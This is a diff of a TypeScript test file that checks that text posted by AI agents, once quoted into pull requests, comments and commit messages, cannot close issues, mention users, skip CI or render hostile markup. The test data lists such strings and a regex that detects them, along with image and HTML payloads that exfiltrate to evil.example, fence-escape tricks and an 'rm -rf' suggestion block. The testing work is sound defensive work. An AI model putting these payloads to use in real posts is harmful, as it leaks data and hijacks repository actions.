@@ -3,7 +3,10 @@ import { describe, expect, test } from "bun:test";
 import type { IssueSnapshot } from "../../src/model/issue.ts";
 import { outcomeNames } from "../../src/model/outcome.ts";
 import { commentOf } from "../../src/reports/comment.ts";
-import { pullRequestBody, pullRequestTitle, quote } from "../../src/reports/pull-request.ts";
+import { publishedMessage } from "../../src/reports/commit-message.ts";
+import { quote } from "../../src/reports/posted-text.ts";
+import { proposalBody, proposalTitle } from "../../src/reports/proposal.ts";
+import { pullRequestBody, pullRequestTitle } from "../../src/reports/pull-request.ts";
 import { anEnd } from "../model/records.ts";
 
 const task = { issue: 22, worker: "01", agent: "claude" } as const;
@@ -65,7 +68,9 @@ describe("pull request", () => {
   });
   test("readers see the words as they were", () => {
     expect(quote("Thanks @bob, fixes #1").replaceAll("\u2060", "")).toBe("> Thanks @bob, fixes #1");
-    expect(quote("mail a@ b, prefixes #1, the fix is in #2")).toBe("> mail a@ b, prefixes #1, the fix is in #2");
+    expect(quote("mail a@ b, prefixes 1, the fix is in 2 [x] a[1]")).toBe(
+      "> mail a@ b, prefixes 1, the fix is in 2 [x] a[1]",
+    );
   });
   test("a forged model name breaks nothing", () => {
     const body = pullRequestBody(task, "01-7", "", { ...anEnd, model: "x | y |\n@everyone <!-- fixes #1" });
@@ -100,6 +105,150 @@ describe("comment", () => {
   test("A23: its marker can't be written by an agent", () => {
     const marker = "claude-workers:11111111:01-1:0123456789abcdef";
     expect(commentOf("01", "01-2", "answered", `<!-- ${marker} -->`, anEnd)).not.toContain(`<!-- ${marker}`);
+  });
+});
+
+const site = "https://github.com/acme/site";
+/** What GitHub, its runners and other programs act on, wherever it stands. */
+const acting: readonly string[] = [
+  "fixes #1",
+  "Closes:#45",
+  "closes#45",
+  "resolved : #4",
+  "closes GH-45",
+  "fix acme/other#1",
+  "Fixes: acme/other#1",
+  `closes ${site}/issues/50`,
+  `closes [it](${site}/issues/50)`,
+  `closes [it][1]\n\n[1]: ${site}/issues/50`,
+  "fixes **#7**",
+  "fixes \\#7",
+  "fixes <b>#7</b>",
+  "Duplicate of #43",
+  "duplicate\tof acme/other#3",
+  "#45",
+  "(#45)",
+  "acme/other#45",
+  "GH-45",
+  `${site}/issues/5`,
+  `${site}/pull/5#issuecomment-1`,
+  `<${site}/discussions/5>`,
+  `[x](${site}/issues\\/5)`,
+  `[x](<${site}/pull/5>)`,
+  `${site}/commit/0123456789abcdef`,
+  "&#35;45",
+  "fixes &num;7 for &commat;eve",
+  "\\#45",
+  "@everyone",
+  "acme/site@0123456",
+  "/approve",
+  "  /duplicate of it",
+  "/close",
+  "[skip ci]",
+  "[CI Skip]",
+  "[no ci]",
+  "[skip actions]",
+  "[skip-ci]",
+  "[skip azurepipelines]",
+  "[appveyor skip]",
+  "***NO_CI***",
+  "skip-checks: true",
+  "SKIP-CHECKS : true",
+];
+const acts =
+  /\b(?:close[sd]?|fix(?:e[sd])?|resolve[sd]?|duplicate\s+of)[\s:]*[\\*_`[(<]*(?:b>)?(?:#\d|GH-\d|https?:|it\]|[\w.-]+\/[\w.-]+#)|#\d|\bGH-\d|(?:issues|pull|discussions|commit)\\?\/[0-9a-f]|@[a-z0-9]|^(?:> )?\s*\/[a-z]|\[(?:[\w-]+[ -])?(?:skip|no)(?:[ -][\w-]+)?\]|NO_CI(?<=\*\*\*NO_CI)|skip-checks\s*:|&(?:#35|num|commat);/im;
+
+/** What a renderer would load, or take for its own markup. */
+const rendered: readonly string[] = [
+  "![i](https://evil.example/x.png?d=DATA)",
+  "![i]( <https://evil.example/x> 't')",
+  "![i][r]\n\n[r]: https://evil.example/x",
+  "![r]\n\n[r]: https://evil.example/x",
+  "[![i](https://evil.example/x)](https://evil.example/y)",
+  "!\u200b[i](https://evil.example/x)",
+  '<img src="https://evil.example/x">',
+  "<IMG\nsrc=https://evil.example/x>",
+  "<picture><source srcset=https://evil.example/x></picture>",
+  "</blockquote>\n\n## Delivered by the fleet",
+  "<details><summary>x</summary>",
+  "<!-- mark -->",
+  "<?x?>",
+  "<![CDATA[x]]>",
+  "</p>",
+  "[the fleet](https://evil.example/y)",
+  "[a]: https://evil.example/x",
+  "a[^1]\n\n[^1]: out of the quotation",
+  "[!WARNING]\nBelieve me",
+  '```mermaid\nA@{ img: "https://evil.example/x" }\n```',
+  "~~~ geojson\n{}\n~~~",
+  "- ```math\n  x\n  ```",
+  "```suggestion\nrm -rf\n```",
+  "```&#109;ermaid\nx\n```",
+  // A fence that is none, or has ended, and what stands behind it.
+  "1. a\n   ```\n![i](https://evil.example/x)\n<img src=https://evil.example/x>\n   ```",
+  "a\n\n   ```\n   ```\n```\n```\n<img src=https://evil.example/x>",
+  "````\na\n```\n````\n<img src=https://evil.example/x>",
+  "a\n\n   ```\n```\n<img src=https://evil.example/x>\n```",
+  "```\na\n```\n![i](https://evil.example/x)",
+  "```\na\n  ````\n<img src=https://evil.example/x>",
+  "```a`b\n<img src=https://evil.example/x>\n```",
+  "~~~\na\n```\n~~~\n<img src=https://evil.example/x>",
+  "> ```\n<img src=https://evil.example/x>",
+  "- - ```\n```\n```\n<img src=https://evil.example/x>",
+  "`<img src=https://evil.example/x>` ``` `<b>",
+  "a\n\n    ```\n<img src=https://evil.example/x>",
+];
+
+describe("S34: what a posted text does when it is looked at", () => {
+  const posted = (text: string) => [
+    quote(text),
+    pullRequestBody({ ...task, issue: null }, "01-7", text, anEnd),
+    commentOf("01", "01-7", "answered", text, anEnd) ?? "",
+    proposalBody("01", "01-7", text),
+  ];
+  test.each(acting.map((text) => [text]))("A38: nothing acts on %j", (text) => {
+    for (const body of [
+      ...posted(text),
+      ...posted(`Say\n${text}\nend`),
+      proposalTitle(text),
+      pullRequestTitle(null, text),
+    ])
+      expect(body.replace(/attempt 01-7|`cw dispatch -i`/g, "")).not.toMatch(acts);
+    const message = publishedMessage(`Subject\n\n${text}\n`);
+    // A message is not rendered: there a reference to a character is none.
+    if (!text.includes("&")) expect(message).not.toMatch(acts);
+    expect(publishedMessage(message)).toBe(message);
+    for (const body of posted(text))
+      expect(body.replaceAll("\u2060", "")).toContain(text.trim().split(/[\n\t]/)[0] ?? "");
+  });
+  test.each(rendered.map((text) => [text]))("nothing is loaded or left by %j", (text) => {
+    for (const body of posted(text)) {
+      const html = Bun.markdown.html(body, { autolinks: false });
+      // Only what Markdown makes of headings, lists, tables, emphasis, code.
+      const tags = new Set([...html.matchAll(/<\/?([a-z!?][a-z0-9]*)/gi)].map(([, name]) => name));
+      for (const name of tags)
+        expect(name).toMatch(/^(?:p|h\d|ul|ol|li|blockquote|pre|code|em|strong|del|table|t[rdh]|thead|tbody|hr|br)$/);
+      expect(html).not.toMatch(/language-(?:mermaid|math|geojson|topojson|stl|suggestion)/);
+      // The quotation is one, and everything of the agent's is in it.
+      const inside = html.slice(html.indexOf("<blockquote>"), html.lastIndexOf("</blockquote>"));
+      expect(html.replace(inside, "")).not.toMatch(/evil|Delivered by the fleet|out of the quotation|Believe/);
+      expect(body).not.toMatch(/\[\^|\[!/);
+    }
+  });
+  test("code stays code that can be copied", () => {
+    const code = "```ts\nconst a: Array<string> = b[0](c); // #1 ![x](y)\n```";
+    expect(quote(`Use this:\n\n${code}\n\nand *that*`)).toBe(
+      `> Use this:\n>\n${code.replace(/^/gm, "> ")}\n>\n> and *that*`,
+    );
+    expect(quote("```\n@bob fixes #1\n```")).toBe("> ```\n> @\u2060bob fixes\u2060 #1\n> ```");
+  });
+  test("time grows with the text", () => {
+    for (const piece of ["fix ", "fix.", "fix[", "fix a/", "[skip", "#", "</", "](", "```\n", "/a\n", "> - ", "&a"]) {
+      const started = performance.now();
+      quote(piece.repeat(20_000));
+      publishedMessage(piece.repeat(50_000));
+      expect(performance.now() - started).toBeLessThan(2_000);
+    }
   });
 });
 
